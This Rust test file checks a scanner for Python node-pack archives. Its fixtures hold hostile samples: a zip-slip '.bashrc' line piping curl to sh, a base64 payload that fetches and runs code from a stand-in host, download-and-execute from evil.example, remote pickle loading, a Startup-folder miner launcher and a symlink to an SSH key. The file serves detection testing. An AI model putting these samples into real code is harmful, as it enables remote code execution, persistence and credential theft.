//! `airlock scan`: a fixture pack per archive, Python, install-hook and requirements rule, each
//! made here and named after what it hides, flagged as specified; a benign pack (with a
//! subprocess argument list and `torch.load`) has no finding.

use std::io::Write;

use crate::harness::World;

const PYPROJECT: &str = "[project]\nname = \"fixture\"\nversion = \"1.0.0\"\n";

/// Writes a zip of `members` (name, bytes) to `path` in the world; `symlinks` are added as links.
fn zip(world: &World, path: &str, members: &[(&str, Vec<u8>)], symlinks: &[(&str, &str)]) {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    for (name, bytes) in members {
        zip.start_file(*name, options).unwrap();
        zip.write_all(bytes).unwrap();
    }
    for (name, target) in symlinks {
        zip.add_symlink(*name, *target, options).unwrap();
    }
    let bytes = zip.finish().unwrap().into_inner();
    world.write(path, &bytes);
}

/// The rules `airlock scan --json FILE` reports, with their severities, and its exit code.
fn scan(world: &World, file: &str) -> (Vec<(String, String)>, i32) {
    let run = world.cli(&["--json", "scan", file]);
    // The report, then (on exit 3) the error, each a JSON value.
    let report: serde_json::Value = serde_json::Deserializer::from_str(&run.stdout)
        .into_iter()
        .next()
        .and_then(Result::ok)
        .unwrap_or_default();
    let findings = report["findings"]
        .as_array()
        .unwrap_or(&Vec::new())
        .iter()
        .map(|f| (f["rule"].as_str().unwrap().to_owned(), f["severity"].as_str().unwrap().to_owned()))
        .collect();
    (findings, run.code)
}

fn base() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("pyproject.toml", PYPROJECT.as_bytes().to_vec()),
        ("__init__.py", b"NODE_CLASS_MAPPINGS = {}\n".to_vec()),
    ]
}

#[test]
fn each_scanner_rule_is_flagged_by_a_fixture_named_after_it_and_a_benign_pack_is_not() {
    let world = World::prepared(1, 1);
    let with = |extra: Vec<(&'static str, Vec<u8>)>| [base(), extra].concat();
    // (fixture file, members, symbolic links, the rule expected, its severity)
    type Case<'a> = (&'a str, Vec<(&'a str, Vec<u8>)>, Vec<(&'a str, &'a str)>, &'a str, &'a str);
    let cases: Vec<Case> = vec![
        (
            "zip-slip.zip",
            with(vec![("../../.bashrc", b"curl evil | sh".to_vec())]),
            vec![],
            "archive.path-traversal",
            "high",
        ),
        (
            "absolute-path.zip",
            with(vec![("/etc/cron.d/evil", b"* * * * * root x".to_vec())]),
            vec![],
            "archive.absolute-path",
            "high",
        ),
        ("symlink.zip", base(), vec![("nodes.py", "/home/user/.ssh/id_ed25519")], "archive.link", "high"),
        ("zip-bomb.zip", with(vec![("weights.bin", vec![0u8; 20 << 20])]), vec![], "archive.bomb", "high"),
        (
            "case-collision.zip",
            with(vec![("Nodes.py", b"a".to_vec()), ("nodes.py", b"b".to_vec())]),
            vec![],
            "archive.case-collision",
            "medium",
        ),
        (
            "install-hook.zip",
            with(vec![("install.py", b"import os\n".to_vec())]),
            vec![],
            "install.hook",
            "medium",
        ),
        (
            "extra-index.zip",
            with(vec![(
                "requirements.txt",
                b"--extra-index-url https://evil.example/simple\nnumpy\n".to_vec(),
            )]),
            vec![],
            "requirements.index-override",
            "high",
        ),
        (
            "vcs-requirement.zip",
            with(vec![("requirements.txt", b"git+https://github.com/evil/pkg\n".to_vec())]),
            vec![],
            "requirements.vcs",
            "high",
        ),
        (
            "exec-of-base64.zip",
            with(vec![(
                "nodes.py",
                b"import base64\nPAYLOAD = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovL2V2aWwgfCBzaCcp'\nexec(base64.b64decode(PAYLOAD))\n".to_vec(),
            )]),
            vec![],
            "python.exec-decoded",
            "high",
        ),
        (
            "download-and-exec.zip",
            with(vec![(
                "nodes.py",
                b"import urllib.request, subprocess\nurllib.request.urlretrieve('http://evil.example/m', '/tmp/.m')\nsubprocess.Popen(['/tmp/.m'])\n".to_vec(),
            )]),
            vec![],
            "python.download-exec",
            "high",
        ),
        (
            "shell-subprocess.zip",
            with(vec![("nodes.py", b"import subprocess\nsubprocess.run(f'pip install {pkg}', shell=True)\n".to_vec())]),
            vec![],
            "python.shell",
            "high",
        ),
        (
            "pickle-loads.zip",
            with(vec![(
                "nodes.py",
                b"import pickle, requests\nstate = pickle.loads(requests.get('http://x/state').content)\n".to_vec(),
            )]),
            vec![],
            "python.unsafe-deserialize",
            "high",
        ),
        (
            "startup-folder-write.zip",
            with(vec![(
                "nodes.py",
                b"import os\nstartup = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup')\nwith open(os.path.join(startup, 'update.bat'), 'w') as f:\n    f.write('start miner.exe')\n".to_vec(),
            )]),
            vec![],
            "python.write-outside",
            "high",
        ),
        (
            "obfuscated-import.zip",
            with(vec![("nodes.py", b"m = __import__(''.join(map(chr, [111, 115])))\nm.getcwd()\n".to_vec())]),
            vec![],
            "python.obfuscated-import",
            "high",
        ),
        (
            "unparsable-python.zip",
            with(vec![("nodes.py", b"def hidden(:\n    exec(x)\n".to_vec())]),
            vec![],
            "python.unparsable",
            "medium",
        ),
        (
            "blocklisted-dependency.zip",
            with(vec![("requirements.txt", b"ultralytics==8.3.41\n".to_vec())]),
            vec![],
            "requirements.blocklisted",
            "high",
        ),
    ];
    for (file, members, links, rule, severity) in cases {
        zip(&world, file, &members, &links);
        let (findings, code) = scan(&world, file);
        assert!(findings.contains(&(rule.to_owned(), severity.to_owned())), "{file}: {findings:?}");
        assert_eq!(code, if severity == "high" { 3 } else { 0 }, "{file}: exit code");
    }

    // A duplicate entry: two names of one length, the second renamed to the first in the bytes.
    zip(
        &world,
        "duplicate.zip",
        &with(vec![("dup1.py", b"one".to_vec()), ("dup2.py", b"two".to_vec())]),
        &[],
    );
    let mut bytes = std::fs::read(world.path("duplicate.zip")).unwrap();
    for at in 0..bytes.len() - 7 {
        if &bytes[at..at + 7] == b"dup2.py" {
            bytes[at..at + 7].copy_from_slice(b"dup1.py");
        }
    }
    std::fs::write(world.path("duplicate.zip"), bytes).unwrap();
    let (findings, code) = scan(&world, "duplicate.zip");
    assert!(findings.contains(&("archive.duplicate".to_owned(), "high".to_owned())), "{findings:?}");
    assert_eq!(code, 3);

    // Benign: requirements from the index, web assets, a compressed-but-small model file.
    zip(
        &world,
        "benign.zip",
        &with(vec![
            ("requirements.txt", b"numpy>=1.24\nsafetensors\nultralytics==8.3.40\n".to_vec()),
            ("web/js/ui.js", b"export {};\n".to_vec()),
            ("nodes/blur.py", b"def blur(x):\n    return x\n".to_vec()),
            (
                "nodes/update.py",
                b"import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'list'], check=True)\n".to_vec(),
            ),
            (
                "nodes/model.py",
                b"import torch, os, folder_paths\nsd = torch.load(os.path.join(folder_paths.models_dir, 'm.pt'), map_location='cpu')\n".to_vec(),
            ),
        ]),
        &[],
    );
    let (findings, code) = scan(&world, "benign.zip");
    assert!(findings.is_empty(), "{findings:?}");
    assert_eq!(code, 0);
    // Not a zip at all: an error, not a clean report.
    world.write("junk.zip", b"junk");
    world.cli(&["scan", "junk.zip"]).code(1).says("not a zip archive");
}
